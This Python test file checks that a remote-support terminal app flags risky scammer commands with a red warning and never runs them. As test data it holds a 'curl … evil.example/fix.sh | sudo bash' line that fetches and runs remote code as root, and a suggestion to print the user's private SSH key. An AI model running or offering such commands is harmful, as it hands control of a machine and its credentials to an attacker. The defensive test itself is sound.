"""A scammer's playbook step ("run `curl … | sudo bash`") and suggestion reached the customer
app like any other command. Now the step's command box, its toast and the suggestion's toast
say what such a command does, first and in red; the command is still only pasted at the
customer's Ctrl-] a, never run."""

from __future__ import annotations

from tests.tui.test_customer_app import BASH, Agent, _shell_env, agent, paired_app, pane_lines  # noqa: F401 (fixtures)
from tests.waiting import until
from tui.customer_app import CustomerApp

__all__ = ["_shell_env", "agent"]

EVIL = "curl -s http://evil.example/fix.sh | sudo bash"
WARNING = "⚠ this runs a program downloaded from the internet"


async def test_a_risky_step_and_suggestion_carry_their_warning(agent: Agent, relay_url: str) -> None:  # noqa: F811
    code = await agent.create()
    app = CustomerApp(relay_url, code, BASH)
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await paired_app(pilot, agent)
        await agent.rt.command({"cmd": "steps", "title": "Fix your account", "steps": [
            {"title": "Run the fix", "command": EVIL}, {"title": "List", "command": "ls -la"}]})
        await until(lambda: any(n.message.startswith(WARNING) and EVIL in n.message for n in app._notifications),
                    what="the step's toast, its warning first")
        command = app.query_one("#step-command").content
        assert f"$ {EVIL}" in str(command) and WARNING in str(command)
        assert any(span.style == "bold red" for span in getattr(command, "spans", []))
        await agent.rt.command({"cmd": "suggest", "command": "cat ~/.ssh/id_rsa"})
        await until(lambda: any(n.message.startswith("⚠ this shows your private keys") for n in app._notifications),
                    what="the suggestion's toast, its warning first")
        await agent.rt.command({"cmd": "step", "index": 1, "status": "active"})
        await until(lambda: "$ ls -la" in str(app.query_one("#step-command").content), what="the next step")
        assert WARNING not in str(app.query_one("#step-command").content)
        assert not any(EVIL in line for line in pane_lines(app))  # nothing pasted, nothing run
